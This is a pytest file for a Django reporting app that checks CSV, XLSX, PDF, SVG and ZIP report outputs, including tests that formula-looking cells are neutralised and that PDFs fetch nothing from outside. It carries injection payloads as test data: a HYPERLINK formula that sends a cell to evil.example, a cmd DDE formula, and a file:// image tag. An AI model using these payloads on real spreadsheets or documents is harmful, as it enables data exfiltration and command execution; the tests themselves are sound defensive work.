"""Report files opened and read back: CSV parsed, XLSX loaded with openpyxl (formula-looking cells
neutralised), PDF text extracted with pdftotext, the SVG charts, small-cell suppression in every output of
the project's measures, and the exit package's ZIP."""

from __future__ import annotations

import csv
import datetime as dt
import io
import itertools
import json
import shutil
import subprocess
import zipfile

import icalendar
import pytest
from django.urls import reverse
from django.utils import timezone, translation
from openpyxl import load_workbook

from directory.factories import ForbundFactory
from events.models import Event, EventStatus
from matchmaking.models import Agreement, FundedProject, Participant
from reports import charts, outputs, presentation
from reports.indicators import ALL_CODES
from reports.models import ReportFile, ReportKind, ReportRun, RunStatus, SupportRecord
from reports.tasks import run_report
from tests.conftest import TOTP_SECRET
from tests.factories import OrganisationFactory

EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Klicka")'
PERIOD = (dt.date(2024, 1, 1), dt.date(2024, 12, 31))


@pytest.fixture(autouse=True)
def _media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


@pytest.fixture
def project(world):
    return FundedProject.objects.create(
        forbund=ForbundFactory(), diarienummer="23-051-S06", name=EVIL_NAME, owner=world.forbund
    )


def _participant(project, raiser, code: str, gender: str, **extra) -> Participant:
    data = {
        "code": code,
        "project": project,
        "raised_by_organisation": raiser,
        "gender": gender,
        "birth_date": dt.date(1990, 1, 1),
        "entry_date": dt.date(2024, 3, 1),
        "status_at_entry": "inactive",
        "municipality_id": "2580",
        **extra,
    }
    participant = Participant(**data)
    participant.full_clean()
    participant.save()
    return participant


@pytest.fixture
def participants(project, world):
    _participant(project, world.muni_x, "P1", "woman")
    _participant(project, world.muni_x, "P2", "woman", status_at_entry="unemployed", unemployed_months=14)
    _participant(project, world.muni_x, "P3", "man")
    _participant(project, world.muni_x, "P4", "non_binary", rural=True)
    SupportRecord.objects.create(project=project, organisation=world.muni_x, date=dt.date(2024, 5, 2), kind="advice")


def _run(project, user, kind=ReportKind.ESF, **extra) -> ReportRun:
    run = ReportRun.objects.create(
        kind=kind, project=project, period_from=PERIOD[0], period_to=PERIOD[1], requested_by=user, **extra
    )
    run_report.apply(args=[run.pk])
    run.refresh_from_db()
    assert run.status == RunStatus.SUCCEEDED, run.error
    return run


def _file(run: ReportRun, fmt: str) -> bytes:
    with ReportFile.objects.get(run=run, format=fmt).file.open("rb") as handle:
        return handle.read()


def _pdf_text(content: bytes, tmp_path) -> str:
    assert shutil.which("pdftotext"), "poppler-utils' pdftotext is needed (scripts/ensure-system-packages.sh)"
    path = tmp_path / "report.pdf"
    path.write_bytes(content)
    result = subprocess.run(["pdftotext", str(path), "-"], capture_output=True, text=True, check=True)
    return " ".join(result.stdout.split())  # line breaks and layout spaces do not matter here


def _english(user) -> None:
    type(user).objects.filter(pk=user.pk).update(preferred_language="en")
    user.refresh_from_db()


# --- ESF+ report ---------------------------------------------------------------------------------------
def test_esf_csv_has_every_indicator_with_its_swedish_name_and_explicit_zeros(project, participants, world):
    run = _run(project, world.coordinator)  # the coordinator reads Swedish
    content = _file(run, "csv").decode("utf-8")
    assert content.startswith("\ufeff")
    header, *table = list(csv.reader(io.StringIO(content.lstrip("\ufeff"))))
    assert header == ["Kod", "Indikator", "Kvinnor", "Män", "Icke-binär", "Totalt"]
    by_code = {row[0]: row for row in table if row[0] != "note"}
    assert list(by_code) == ALL_CODES
    assert [row[0] for row in table[: len(ALL_CODES)]] == ALL_CODES  # the indicators first, then the notes
    assert by_code["EECO01"] == ["EECO01", "Totalt antal deltagare", "2", "1", "1", "4"]
    assert by_code["EECO03"][2:] == ["1", "0", "0", "1"]
    assert by_code["EECR05"][5] == "0"
    assert by_code["EECO18"][2:] == ["", "", "", "1"]


def test_esf_csv_of_an_english_requester_has_english_headers_and_names(project, participants, world):
    _english(world.coordinator)
    header, *table = list(csv.reader(io.StringIO(_file(_run(project, world.coordinator), "csv").decode("utf-8-sig"))))
    assert header == ["Code", "Indicator", "Women", "Men", "Non-binary", "Total"]
    by_code = {row[0]: row for row in table}
    assert by_code["EECO01"] == ["EECO01", "Total participants", "2", "1", "1", "4"]
    assert by_code["EECO17"][:2] == ["EECO17", "Participants from rural areas"]
    assert by_code["EECR04"][1] == "In employment, including self-employment, upon leaving"
    notes = [row[1] for row in table if row[0] == "note"]
    assert notes[0] == "Computed under the ESF+ definitions of 2026-11-30."


def test_esf_csv_ends_with_what_the_report_says_about_itself_in_the_requesters_language(project, participants, world):
    run = _run(project, world.coordinator)  # the coordinator reads Swedish
    table = list(csv.reader(io.StringIO(_file(run, "csv").decode("utf-8-sig"))))
    notes = [row[1] for row in table if row[0] == "note"]
    assert [row[0] for row in table[len(ALL_CODES) + 1 :]] == ["note"] * len(notes)
    assert notes[0] == "Beräknad enligt ESF+-definitionerna från 2026-11-30."
    assert notes[1].startswith("Detta är projektets egna uppföljningssiffror.")
    assert any("2003/361" in note for note in notes)
    assert notes[-1].startswith("4 deltagare har okänd utbildningsnivå (ISCED)")  # no participant has an ISCED


@pytest.mark.security("E28")
@pytest.mark.adversarial("E")
def test_xlsx_reads_back_with_numbers_as_numbers_and_a_formula_name_neutralised(project, participants, world):
    _english(world.coordinator)
    run = _run(project, world.coordinator)
    workbook = load_workbook(io.BytesIO(_file(run, "xlsx")))
    sheet = workbook.active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [c for c in cells if c.data_type == "f"], "no cell may be a formula"
    values = [c.value for c in cells]
    assert "'" + EVIL_NAME in values
    assert EVIL_NAME not in values
    table = [row for row in sheet.iter_rows(values_only=True) if row and row[0]]
    rows = {row[0]: row for row in table}
    assert table[0][0] == "ESF+ common indicators"
    assert next(row for row in table if row[0] == "Code")[:6] == (
        "Code",
        "Indicator",
        "Women",
        "Men",
        "Non-binary",
        "Total",
    )
    assert rows["EECO01"][:6] == ("EECO01", "Total participants", 2, 1, 1, 4)
    assert rows["EECO17"][2:6] == (0, 0, 1, 1)
    assert rows["EECO19"][:3] == (
        "EECO19",
        "Micro, small and medium-sized enterprises supported (incl. social enterprises)",
        0,
    )
    first = [row[0] for row in table]
    assert "Computed under the ESF+ definitions of 2026-11-30." in first
    about = first.index("About these figures")
    assert first[about + 1].startswith("These are the project's own monitoring figures.")
    assert first[first.index("Warnings") + 1].startswith("4 participants have an unknown education level (ISCED)")


def _text(title) -> str:
    """The text of a chart's or an axis's title as openpyxl reads it back."""
    return "".join(run.t for paragraph in title.tx.rich.p for run in paragraph.r or [])


def _header_row(sheet, first_cell: str, occurrence: int = 0) -> int:
    rows = [cell.row for cell in sheet["A"] if cell.value == first_cell]
    return rows[occurrence]


def test_xlsx_has_a_native_bar_chart_per_table_drawn_from_its_cells(project, participants, world):
    _english(world.coordinator)
    sheet = load_workbook(io.BytesIO(_file(_run(project, world.coordinator), "xlsx"))).active
    charts_ = sheet._charts
    assert [_text(chart.title) for chart in charts_] == [
        "Participants at entry (EECO01–EECO17)",
        "Results (EECR01–EECR06)",
        "Entities supported (EECO18–EECO19)",
    ]
    output = charts_[0]
    assert output.tagname == "barChart" and output.type == "bar"
    assert (_text(output.x_axis.title), _text(output.y_axis.title)) == ("Indicator", "Participants")
    header = _header_row(sheet, "Code")
    first, last = header + 1, header + 17
    quoted = "'23-051-S06'"
    # Women, men and non-binary: three series from columns C–E, named by their headings; the codes label them.
    assert [serie.val.numRef.f for serie in output.series] == [
        f"{quoted}!${column}${first}:${column}${last}" for column in "CDE"
    ]
    assert [serie.tx.strRef.f for serie in output.series] == [f"{quoted}!{column}{header}" for column in "CDE"]
    assert {(serie.cat.numRef or serie.cat.strRef).f for serie in output.series} == {f"{quoted}!$A${first}:$A${last}"}
    assert (sheet[f"A{first}"].value, sheet[f"A{last}"].value) == ("EECO01", "EECO17")
    assert [sheet[f"{column}{header}"].value for column in "CDE"] == ["Women", "Men", "Non-binary"]
    assert sheet[f"C{first}"].value == 2
    entities = charts_[2]
    entity_header = _header_row(sheet, "Code", 2)
    assert [serie.val.numRef.f for serie in entities.series] == [
        f"{quoted}!$C${entity_header + 1}:$C${entity_header + 2}"
    ]


def test_xlsx_charts_are_titled_in_swedish_for_a_swedish_requester(project, participants, world):
    sheet = load_workbook(io.BytesIO(_file(_run(project, world.coordinator), "xlsx"))).active
    output = sheet._charts[0]
    assert (_text(output.x_axis.title), _text(output.y_axis.title)) == ("Indikator", "Deltagare")
    assert [sheet[f"{column}{_header_row(sheet, 'Kod')}"].value for column in "CDE"] == ["Kvinnor", "Män", "Icke-binär"]


def test_xlsx_of_the_measures_charts_the_key_figures(project, measures_data, world):
    _english(world.coordinator)
    sheet = load_workbook(io.BytesIO(_file(_run(project, world.coordinator, kind=ReportKind.PROJECT), "xlsx"))).active
    by_title = {_text(chart.title): chart for chart in sheet._charts}
    assert {"Key figures", "Events held, by type", "Organisations supported, by kind"} <= set(by_title)
    key = by_title["Key figures"]
    assert (_text(key.x_axis.title), _text(key.y_axis.title)) == ("Group", "Number")
    header = _header_row(sheet, "Group")
    assert sheet[f"A{header - 1}"].value == "Key figures"
    assert [serie.val.numRef.f for serie in key.series] == [f"'23-051-S06'!$B${header + 1}:$B${header + 6}"]
    assert sheet[f"A{header + 1}"].value == "Verified organisation profiles"
    anchors = sorted(chart.anchor._from.row for chart in sheet._charts)
    assert all(later - earlier >= outputs.CHART_ROWS for earlier, later in itertools.pairwise(anchors))


def test_download_names_say_kind_project_and_period(project, world):
    quarter = {"period_from": dt.date(2025, 1, 1), "period_to": dt.date(2025, 3, 31)}
    esf = ReportRun(kind=ReportKind.ESF, project=project, forbund=project.forbund, **quarter)
    assert outputs.download_name(esf, "xlsx") == "asfnet-esf-23-051-S06-2025-01-01_2025-03-31.xlsx"
    odd = FundedProject.objects.create(
        forbund=ForbundFactory(), diarienummer="Dnr 2025/Öst:12", name="Öst", owner=world.forbund
    )
    measures = ReportRun(
        kind=ReportKind.PROJECT, project=odd, forbund=odd.forbund, period_from=PERIOD[0], period_to=PERIOD[1]
    )
    assert outputs.download_name(measures, "csv") == "asfnet-measures-Dnr-2025-Ost-12-2024-01-01_2024-12-31.csv"
    finsam = ReportRun(
        kind=ReportKind.FINSAM, project=project, forbund=project.forbund, period_from=PERIOD[0], period_to=PERIOD[1]
    )
    assert outputs.download_name(finsam, "pdf") == "asfnet-finsam-23-051-S06-2024-01-01_2024-12-31.pdf"
    package = ReportRun.objects.create(kind=ReportKind.EXIT_PACKAGE, forbund=ForbundFactory())
    ReportRun.objects.filter(pk=package.pk).update(created_at=timezone.make_aware(dt.datetime(2026, 11, 30, 12)))
    package.refresh_from_db()
    assert outputs.download_name(package, "zip") == "asfnet-exit-package-2026-11-30.zip"


def test_csv_cells_that_look_like_formulas_are_neutralised():
    with translation.override("en"):
        content = outputs.to_csv({"measures": {"organisations_engaged_by_kind": {"=cmd|' /C calc'!A0": 7}}})
    row = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))[1]
    assert row == [
        "organisations_engaged_by_kind",
        "Organisations supported, by kind",
        "'=cmd|' /C calc'!A0",
        "'=cmd|' /C calc'!A0",  # an unknown group is labelled by its key, neutralised too
        "7",
    ]


def test_pdf_in_english_has_the_title_codes_gender_columns_and_warnings(project, participants, world, tmp_path):
    _english(world.coordinator)
    org = OrganisationFactory(kind="business", name="Åkeri Öst AB", employees=None)
    SupportRecord.objects.create(project=project, organisation=org, date=dt.date(2024, 6, 1), kind="training")
    run = _run(project, world.coordinator)
    content = _file(run, "pdf")
    assert content.startswith(b"%PDF-")
    text = _pdf_text(content, tmp_path)
    assert "ESF+ common indicators" in text
    assert "23-051-S06" in text
    assert "2024-01-01 – 2024-12-31" in text
    for code in ALL_CODES:
        assert code in text
    assert "Women" in text and "Men" in text and "Non-binary" in text
    assert "Kvinnor" not in text
    assert "EECO19" in text and "no number of employees" in text  # the warning is in the PDF
    assert "Computed under the ESF+ definitions of 2026-11-30." in text
    assert "These are the project's own monitoring figures." in text and "binary by gender" in text
    assert "The headcount is a proxy for the SME definition" in text
    assert "4 participants have an unknown education level (ISCED)" in text
    assert "Chart: Participants at entry" in text  # the charts follow the tables


def test_pdf_is_in_swedish_for_a_swedish_requester(project, participants, world, tmp_path):
    """Needs the Swedish catalogue (the lead translates "Women" → "Kvinnor" at the end)."""
    run = _run(project, world.coordinator)  # the coordinator's preferred language is Swedish (the default)
    text = _pdf_text(_file(run, "pdf"), tmp_path)
    assert "Kvinnor" in text
    assert "Women" not in text
    assert "EECO01" in text


def test_pdf_renders_aao_with_an_embedded_font(project, participants, world, tmp_path):
    FundedProject.objects.filter(pk=project.pk).update(name="Samverkan för ASF i södra Norrbotten – Åtgärd Ö")
    run = _run(FundedProject.objects.get(pk=project.pk), world.coordinator)
    path = tmp_path / "aao.pdf"
    path.write_bytes(_file(run, "pdf"))
    assert "Samverkan för ASF i södra Norrbotten – Åtgärd Ö" in _pdf_text(path.read_bytes(), tmp_path)
    fonts = subprocess.run(["pdffonts", str(path)], capture_output=True, text=True, check=True).stdout
    assert "DejaVu" in fonts
    assert all(line.split()[-5] == "yes" for line in fonts.splitlines()[2:])  # every font embedded


def test_pdf_is_tagged_for_screen_readers_with_its_language_and_title(project, world):
    """PDF/UA: the catalogue marks the document as tagged, holds a structure tree with headings and a table,
    names its language and shows its title (not the file name) in the window."""
    from pypdf import PdfReader

    from reports import pdf
    from reports.indicators import esf_report

    run = ReportRun.objects.create(kind=ReportKind.ESF, project=project, period_from=PERIOD[0], period_to=PERIOD[1])
    reader = PdfReader(io.BytesIO(pdf.to_pdf(run, esf_report(project, *PERIOD).as_json())))
    root = reader.trailer["/Root"]
    assert bool(root["/MarkInfo"]["/Marked"])
    assert root["/Lang"] == "sv"
    assert bool(root["/ViewerPreferences"]["/DisplayDocTitle"])
    roles = set()

    def walk(node) -> None:
        node = node.get_object()
        if "/S" in node:
            roles.add(str(node["/S"]))
        kids = node.get("/K")
        for kid in kids if isinstance(kids, list) else [kids] if kids is not None else []:
            if hasattr(kid.get_object(), "get"):
                walk(kid)

    walk(root["/StructTreeRoot"])
    assert {"/H1", "/Table", "/TR", "/TH", "/TD"} <= roles, roles


@pytest.mark.security("E25")
@pytest.mark.adversarial("E")
def test_pdf_loads_nothing_from_outside_and_shows_markup_in_data_as_text(project, world, tmp_path, monkeypatch):
    """WeasyPrint is given a fetcher that allows no protocol: a stylesheet on disk linked into the document
    is not read (the control shows that WeasyPrint's default fetcher would have read it)."""
    from weasyprint import HTML

    from reports import pdf
    from reports.indicators import esf_report

    css = tmp_path / "leak.css"
    css.write_text('body::after { content: "LEAKED-FILE"; }', encoding="utf-8")
    link = f'<link rel="stylesheet" href="{css.as_uri()}">'
    real_render = pdf.render_to_string
    monkeypatch.setattr(
        pdf, "render_to_string", lambda *a, **k: real_render(*a, **k).replace("</head>", link + "</head>")
    )
    run = ReportRun.objects.create(kind=ReportKind.ESF, project=project, period_from=PERIOD[0], period_to=PERIOD[1])
    result = esf_report(project, *PERIOD).as_json()
    result["warnings"] = ['<img src="file:///etc/hostname"> <b>fet</b>']

    text = _pdf_text(pdf.to_pdf(run, result), tmp_path)
    assert "LEAKED-FILE" not in text
    assert '<img src="file:///etc/hostname"> <b>fet</b>' in text  # data is text, never markup
    control = HTML(string=f"<html><head>{link}</head><body><p>x</p></body></html>").write_pdf()
    assert "LEAKED-FILE" in _pdf_text(control, tmp_path)


# --- Charts ---------------------------------------------------------------------------------------------
def test_chart_is_an_accessible_svg_with_a_number_on_every_bar_and_no_style_attributes():
    svg = charts.bar_chart(
        chart_id="c1",
        title="Deltagare <per kön>",
        description="Staplar",
        groups=[("EECO01", [2, 1, 0]), ("EECO02", [1, 0, 3])],
        series=["Kvinnor", "Män", "Icke-binära"],
    )
    assert svg.startswith("<svg ") and 'role="img"' in svg and 'aria-label="Deltagare &lt;per kön&gt;"' in svg
    assert "<title" in svg and "<desc" in svg
    assert "style=" not in svg and "<script" not in svg
    # Three series told apart without colour: a solid fill and two patterns, each in the legend.
    assert 'fill="url(#c1-p1)"' in svg and 'fill="url(#c1-p2)"' in svg
    assert svg.count("<pattern") == 2
    for label in ("Kvinnor", "Män", "Icke-binära"):
        assert f">{label}</text>" in svg
    # Every value is written next to its bar, zeros too.
    texts = [part.split("<")[0] for part in svg.split('fill="#1a1a1a">')[1:]]
    assert sorted(t for t in texts if t.isdigit()) == ["0", "0", "1", "1", "2", "3"]


def test_a_suppressed_value_gets_no_bar_only_its_label():
    svg = charts.bar_chart(
        chart_id="c2", title="t", description="d", groups=[("A", ["<5"]), ("B", [12])], series=["Number"]
    )
    assert ">&lt;5</text>" in svg
    assert svg.count("<rect") == 1  # only B's bar


# --- The project's own measures, with and without small-cell suppression -------------------------------
@pytest.fixture
def measures_data(project, participants, world):
    for org in (world.org_a, world.org_b, world.business):
        SupportRecord.objects.create(project=project, organisation=org, date=dt.date(2024, 5, 2), kind="advice")
    agreement = Agreement.objects.create(
        forbund=ForbundFactory(), kind="iop", title="IOP", starts_on=dt.date(2023, 1, 1)
    )
    agreement.parties.add(world.org_a, world.muni_x)
    start = timezone.make_aware(dt.datetime(2024, 4, 10, 9))
    for n in range(6):
        Event.objects.create(
            organiser=world.org_a,
            forbund=project.forbund,
            title_sv=f"Nätverksträff {n}",
            start=start + dt.timedelta(days=n),
            end=start + dt.timedelta(days=n, hours=2),
            place_name="Kulturens hus",
            status=EventStatus.PUBLISHED,
        )


def test_project_measures_unsuppressed_show_small_counts(project, measures_data, world, tmp_path):
    run = _run(project, world.coordinator, kind=ReportKind.PROJECT)
    table = list(csv.reader(io.StringIO(_file(run, "csv").decode("utf-8-sig"))))
    assert table[0][0] == "Kod" and table[0][3:] == ["Grupp", "Antal"]  # the requester reads Swedish
    values = {(row[0], row[2]): row[4] for row in table[1:]}
    names = {(row[0], row[2]): row[1] for row in table[1:]}
    labels = {(row[0], row[2]): row[3] for row in table[1:]}
    assert names[("events_held_by_kind", "network_meeting")] == "Genomförda evenemang, per typ"
    assert labels[("events_held_by_kind", "network_meeting")] == "Nätverksträff"
    assert names[("organisations_reached_by_events", "total")] == "Organisationer som nåtts av evenemang"
    assert labels[("organisations_reached_by_events", "total")] == "Totalt"
    assert values[("organisations_engaged_by_kind", "asf")] == "2"
    assert values[("events_held_by_kind", "network_meeting")] == "6"
    assert values[("agreements_by_kind", "iop")] == "1"
    assert "<5" not in _file(run, "csv").decode("utf-8-sig")


@pytest.mark.adversarial("H")
def test_small_cells_are_suppressed_in_csv_xlsx_pdf_and_html(project, measures_data, world, client, tmp_path):
    _english(world.coordinator)
    run = _run(project, world.coordinator, kind=ReportKind.PROJECT, suppress_small_cells=True)
    assert run.result["measures"]["organisations_engaged_by_kind"]["asf"] == 2  # the stored result is exact

    table = list(csv.reader(io.StringIO(_file(run, "csv").decode("utf-8-sig"))))
    values = {(row[0], row[2]): row[4] for row in table[1:]}
    assert values[("organisations_engaged_by_kind", "asf")] == "<5"
    assert values[("organisations_engaged_by_kind", "business")] == "<5"
    assert values[("events_held_by_kind", "network_meeting")] == "6"  # 5 and more are shown
    assert values[("placements_started", "total")] == "0"  # zero identifies nobody

    sheet = load_workbook(io.BytesIO(_file(run, "xlsx"))).active
    xlsx_rows = {row[0]: row for row in sheet.iter_rows(values_only=True) if row and row[0]}
    asf_label = "Work-integration social enterprise (ASF)"
    assert xlsx_rows[asf_label][1] == "<5"
    assert xlsx_rows["Network meeting"][1] == 6

    text = _pdf_text(_file(run, "pdf"), tmp_path)
    assert "<5" in text and "counts from 1 to 4 are shown as <5" in text

    client.force_login(world.coordinator)
    html = client.get(reverse("reports:run_detail", kwargs={"code": run.code})).content.decode()
    assert "&lt;5" in html
    assert ">2</td>" not in html


def test_esf_run_is_never_suppressed_even_if_the_row_says_so(project, participants, world):
    """services.report_run_request refuses it; the outputs also ignore the flag for the ESF kind."""
    run = _run(project, world.coordinator, suppress_small_cells=True)
    assert "<5" not in _file(run, "csv").decode("utf-8-sig")
    assert presentation.suppresses(run) is False


# --- Exit package ---------------------------------------------------------------------------------------
def test_exit_package_has_every_table_the_directory_data_the_calendar_and_no_secrets(project, measures_data, world):
    draft = Event.objects.create(
        organiser=world.org_a,
        title_sv="Utkast",
        start=timezone.now() + dt.timedelta(days=3),
        end=timezone.now() + dt.timedelta(days=3, hours=1),
        place_name="Hemligt",
    )
    _run(project, world.coordinator)  # an earlier ESF run for the history
    run = ReportRun.objects.create(
        kind=ReportKind.EXIT_PACKAGE, forbund=ForbundFactory(), requested_by=world.coordinator
    )
    run_report.apply(args=[run.pk])
    run.refresh_from_db()
    assert run.status == RunStatus.SUCCEEDED, run.error
    assert list(run.files.values_list("format", flat=True)) == ["zip"]

    archive = zipfile.ZipFile(io.BytesIO(_file(run, "zip")))
    root = f"asfnet-exit-{run.code}/"
    names = set(archive.namelist())
    assert all(n.startswith(root) for n in names)
    data = root + "representations/rep1/data/"
    open_data = root + "representations/rep2/data/"
    assert {
        root + "METS.xml",
        root + "metadata/descriptive/manifest.json",
        root + "metadata/preservation/schema.json",
        root + "documentation/README.txt",
        root + "representations/rep1/METS.xml",
        data + "directory_organisation.csv",
        data + "directory_membership.csv",
        data + "matchmaking_fundedproject.csv",
        data + "matchmaking_participant.csv",
        data + "matchmaking_labourmarketevent.csv",
        data + "events_event.csv",
        data + "events_registration.csv",
        data + "matchmaking_agreement_parties.csv",
        data + "reports_supportrecord.csv",
        data + "reports_reportrun.csv",
        data + "asfnet_user.csv",
        data + "asfnet_auditlog.csv",
        open_data + "directory/datapackage.json",
        open_data + "directory/organizations.csv",
        open_data + "report_results.json",
        open_data + "events.ics",
    } <= names
    for left_out in ("django_session", "mfa_authenticator", "asfnet_pendingtask", "events_calendarfeedtoken"):
        assert data + left_out + ".csv" not in names

    def table(name):
        return list(csv.DictReader(io.TextIOWrapper(archive.open(data + name + ".csv"), encoding="utf-8")))

    organisations = table("directory_organisation")
    assert {o["name"] for o in organisations} >= {"Returen Återbruk", "Dolda Snickeriet"}
    participants = table("matchmaking_participant")
    assert len(participants) == Participant.objects.count() > 0
    assert not {"name", "full_name", "email", "personnummer"} & set(participants[0])
    users = table("asfnet_user")
    assert {u["email"] for u in users} >= {"coordinator@example.se", "staff.a@example.se"}
    assert {u["password"] for u in users} == {""}  # password hashes never leave the installation
    everything = "".join(archive.read(n).decode("utf-8", "replace") for n in names)
    assert TOTP_SECRET not in everything
    projects = table("matchmaking_fundedproject")
    assert projects[0]["name"] == "'" + EVIL_NAME  # neutralised in the CSV as well
    assert len(table("reports_supportrecord")) == 4
    runs = table("reports_reportrun")
    assert {r["kind"] for r in runs} == {"esf", "exit_package"}
    esf_run = next(r for r in runs if r["kind"] == "esf")
    assert (esf_run["rules_version"], esf_run["delivered_at"], esf_run["rerun_of_id"]) == ("2026-11-30", "\\N", "\\N")
    results = json.loads(archive.read(open_data + "report_results.json"))
    assert results[0]["result"]["indicators"]["EECO01"]["total"] == 4
    assert (results[0]["rules_version"], results[0]["delivered_at"]) == ("2026-11-30", None)
    manifest = json.loads(archive.read(root + "metadata/descriptive/manifest.json"))
    assert manifest["package_id"] == f"asfnet-exit-{run.code}"
    assert manifest["tables"]["matchmaking_participant"]["rows"] == len(participants)
    assert run.result["files"]["representations/rep1/data/matchmaking_participant.csv"] == len(participants)

    calendar = icalendar.Calendar.from_ical(archive.read(open_data + "events.ics"))
    uids = {str(e["UID"]) for e in calendar.walk("VEVENT")}
    published = Event.objects.filter(status=EventStatus.PUBLISHED)
    assert uids == {f"{e.code}@asfnet" for e in published}
    assert f"{draft.code}@asfnet" not in uids
    assert run.result["files"]["representations/rep2/data/events.ics"] == published.count()
    assert run.result["files"]["representations/rep1/data/directory_organisation.csv"] == len(organisations)
